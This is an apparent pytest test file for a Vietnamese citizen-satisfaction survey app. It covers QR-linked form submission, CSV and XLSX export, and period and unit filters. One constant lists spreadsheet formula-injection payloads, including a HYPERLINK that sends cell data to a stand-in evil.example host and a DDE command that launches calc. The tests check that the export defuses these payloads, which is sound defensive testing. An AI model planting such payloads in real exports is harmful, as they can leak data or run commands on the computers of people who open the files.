"""Raw responses out: the Done-when path (QR → form → response → export) and `flask export responses` filters."""
from __future__ import annotations

import csv
import datetime as dt
import io
from zoneinfo import ZoneInfo

import openpyxl
import pytest

from tests.factories import decode_qr, full_answers, stored_responses, submit

SAIGON = ZoneInfo("Asia/Ho_Chi_Minh")
UTC = dt.timezone.utc
FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")', "+cmd|' /C calc'!A0", "@SUM(A1:A9)", "-2+3"]


def read_csv(text: str) -> list[dict[str, str]]:
    assert text.startswith("\ufeff"), "Excel needs the BOM to read Vietnamese"
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))


def read_xlsx(path) -> list[dict[str, object]]:
    sheet = openpyxl.load_workbook(path).active
    rows = list(sheet.iter_rows(values_only=True))
    return [dict(zip(rows[0], row)) for row in rows[1:]]


def export(runner, *args: str, fmt: str = "csv", out=None):
    command = ["export", "responses", "--instrument", "sipas-counter", "--format", fmt, *args]
    if out is not None:
        command += ["--out", str(out)]
    return runner.invoke(args=command)


def test_a_qr_scanned_form_accepts_a_response_that_then_appears_in_the_export(app, client, runner, make, tmp_path):
    counter = make.counter(code="AK-Q1", name="Quầy Hộ tịch", fields=("HO_TICH",))
    png = tmp_path / "quay.png"
    assert runner.invoke(args=["qr", "counter", "AK-Q1", "--format", "png", "--out", str(png)]).exit_code == 0
    [url] = decode_qr(png)
    assert url == f"http://hailong.test{counter.path}"
    path = url.removeprefix(app.config["BASE_URL"])
    page = client.get(path)
    assert page.status_code == 200
    data = full_answers(page.get_data(as_text=True), "5")
    data.update(TC2="2", MONG_DOI=["3", "1"], DO_TUOI="2", Y_KIEN="Cán bộ tận tình, cảm ơn.")
    del data["GIOI_TINH"]
    before = dt.datetime.now(SAIGON).replace(microsecond=0, tzinfo=None)
    assert client.post(path, data=data).status_code == 303
    after = dt.datetime.now(SAIGON).replace(tzinfo=None)

    result = export(runner)
    assert result.exit_code == 0, result.output
    [row] = read_csv(result.output)
    [stored] = stored_responses(app)
    assert row["response_id"] == str(stored.id)
    assert (row["counter"], row["unit"], row["service_field"]) == ("AK-Q1", counter.unit_code, "Lĩnh vực HO_TICH")
    assert (row["TC1"], row["TC2"], row["HL_CHUNG"]) == ("5", "2", "5")
    assert (row["MONG_DOI"], row["DO_TUOI"], row["GIOI_TINH"]) == ("1;3", "2", "")
    assert row["Y_KIEN"] == "Cán bộ tận tình, cảm ơn."
    assert before <= dt.datetime.strptime(row["submitted_at"], "%Y-%m-%d %H:%M:%S") <= after
    local = stored.submitted_at.replace(tzinfo=UTC).astimezone(SAIGON).strftime("%Y-%m-%d %H:%M:%S")
    assert row["submitted_at"] == local

    out = tmp_path / "responses.xlsx"
    assert export(runner, fmt="xlsx", out=out).exit_code == 0
    [cells] = read_xlsx(out)
    assert (cells["counter"], cells["unit"], cells["TC2"], cells["Y_KIEN"]) == ("AK-Q1", counter.unit_code, 2,
                                                                                "Cán bộ tận tình, cảm ơn.")
    assert cells["submitted_at"] == row["submitted_at"]


def test_the_export_has_one_column_per_item_code_after_the_fixed_columns(app, runner, make):
    from app.surveys.instruments import load_instrument
    from tests.factories import ROOT

    make.instruments()
    header = export(runner).output.removeprefix("\ufeff").splitlines()[0].split(",")
    codes = [item.code for item in load_instrument(ROOT / "surveys" / "sipas-counter-v1.yaml").items]
    assert header[:6] == ["response_id", "instrument_version", "counter", "unit", "service_field", "submitted_at"]
    assert header[-len(codes):] == codes


@pytest.mark.parametrize("comment", FORMULAS)
def test_a_comment_a_spreadsheet_would_run_is_defused_in_csv_and_xlsx(app, runner, make, tmp_path, comment):
    counter = make.counter()
    submit(app, counter, "formula-comment-00001", Y_KIEN=comment)
    [row] = read_csv(export(runner).output)
    assert row["Y_KIEN"] == "'" + comment
    out = tmp_path / "x.xlsx"
    assert export(runner, fmt="xlsx", out=out).exit_code == 0
    sheet = openpyxl.load_workbook(out).active
    column = [cell.value for cell in sheet[1]].index("Y_KIEN") + 1
    cell = sheet.cell(row=2, column=column)
    assert cell.value == "'" + comment and cell.data_type == "s"


def test_a_service_field_name_a_spreadsheet_would_run_is_defused_too(app, runner, make):
    from app.extensions import db
    from app.units.models import ServiceField

    counter = make.counter(fields=("DAT_DAI",))
    with app.app_context():
        db.session.query(ServiceField).filter_by(code="DAT_DAI").one().name = "=1+1"
        db.session.commit()
    submit(app, counter, "formula-field-name-01")
    assert read_csv(export(runner).output)[0]["service_field"] == "'=1+1"


def test_period_keeps_only_responses_of_local_days_inside_it(app, runner, make):
    counter = make.counter()
    moments = {
        "q1-last-evening-utc-1": dt.datetime(2026, 3, 31, 16, 59, tzinfo=UTC),  # 23:59 on 31 March in Vietnam
        "q2-first-minute-utc-1": dt.datetime(2026, 3, 31, 17, 0, tzinfo=UTC),  # 00:00 on 1 April in Vietnam
        "q2-middle-000000000001": dt.datetime(2026, 5, 15, 3, 0, tzinfo=UTC),
        "q3-000000000000000001": dt.datetime(2026, 7, 1, 3, 0, tzinfo=UTC),
    }
    for key, moment in moments.items():
        submit(app, counter, key, now=moment)
    ids = {row.submission_key: str(row.id) for row in stored_responses(app)}

    def exported(period: str) -> set[str]:
        result = export(runner, "--period", period)
        assert result.exit_code == 0, result.output
        return {row["response_id"] for row in read_csv(result.output)}

    q2 = {ids["q2-first-minute-utc-1"], ids["q2-middle-000000000001"]}
    assert exported("2026-Q2") == q2
    assert exported("2026-04") == {ids["q2-first-minute-utc-1"]}
    assert exported("2026-H1") == q2 | {ids["q1-last-evening-utc-1"]}
    assert exported("2026-03-31..2026-03-31") == {ids["q1-last-evening-utc-1"]}
    assert exported("2026") == set(ids.values())
    assert exported("2025") == set()


@pytest.mark.parametrize("period", ["2026-Q5", "2026-13", "Q3-2026", "2026-03-31..2026-01-01", "hôm qua", "",
                                    "0000", "9999-Q4", "2026-02-30..2026-03-01"])
def test_a_bad_period_is_a_clear_error_and_a_failed_exit(app, runner, make, period):
    make.instruments()
    result = export(runner, "--period", period)
    assert result.exit_code != 0
    assert "kỳ báo cáo không hợp lệ" in result.output
    assert "Traceback" not in result.output


def test_unit_restricts_the_export_to_the_units_subtree(app, runner, make):
    make.unit("T", "Tỉnh Thử", kind="province")
    make.unit("T-S", "Sở Thử", kind="department", parent="T")
    make.unit("T-S-P", "Phòng Thử", kind="division", parent="T-S")
    make.unit("T-X", "Xã Thử", parent="T")
    make.unit("KHAC", "Tỉnh Khác", kind="province")
    codes = {}
    for unit in ("T", "T-S", "T-S-P", "T-X", "KHAC"):
        counter = make.counter(unit=unit, code=f"Q-{unit}")
        submit(app, counter, f"unit-filter-key-{unit}-000000"[:30])
        codes[unit] = counter.code

    def counters_in(unit: str) -> set[str]:
        result = export(runner, "--unit", unit)
        assert result.exit_code == 0, result.output
        return {row["counter"] for row in read_csv(result.output)}

    assert counters_in("T") == {"Q-T", "Q-T-S", "Q-T-S-P", "Q-T-X"}
    assert counters_in("T-S") == {"Q-T-S", "Q-T-S-P"}
    assert counters_in("T-S-P") == {"Q-T-S-P"}
    assert counters_in("KHAC") == {"Q-KHAC"}


def test_export_names_an_unknown_instrument_or_unit(app, runner, make):
    make.instruments()
    unknown = runner.invoke(args=["export", "responses", "--instrument", "khong-co", "--format", "csv"])
    assert unknown.exit_code != 0 and "Không có phiếu khảo sát mã “khong-co”." in unknown.output
    result = export(runner, "--unit", "KHONG-CO")
    assert result.exit_code != 0 and "Không tìm thấy đơn vị có mã “KHONG-CO”." in result.output


def test_dossier_ratings_export_with_their_dossier_code_and_reason(app, runner, make):
    counter = make.counter()
    submit(app, counter, "dossier-export-key-0001", dossier="HS-2026-77", value="1", LY_DO="Trễ hẹn")
    result = runner.invoke(args=["export", "responses", "--instrument", "dossier-rating", "--format", "csv"])
    [row] = read_csv(result.output)
    assert (row["dossier_code"], row["DANH_GIA"], row["LY_DO"], row["duration_s"]) == ("HS-2026-77", "1", "Trễ hẹn",
                                                                                        "42.0")


def test_control_characters_in_stored_text_do_not_break_the_xlsx_export(app, runner, make, tmp_path):
    from app.extensions import db
    from app.units.models import ServiceField

    counter = make.counter(fields=("DAT_DAI",))
    with app.app_context():
        db.session.query(ServiceField).filter_by(code="DAT_DAI").one().name = "Đất\x01 đai\x1f"
        db.session.commit()
    submit(app, counter, "control-chars-key-00001", dossier="HS\x02-1", value="3")
    out = tmp_path / "x.xlsx"
    result = runner.invoke(args=["export", "responses", "--instrument", "dossier-rating", "--format", "xlsx",
                                 "--out", str(out)])
    assert result.exit_code == 0, result.output
    [cells] = read_xlsx(out)
    assert (cells["service_field"], cells["dossier_code"]) == ("Đất đai", "HS-1")
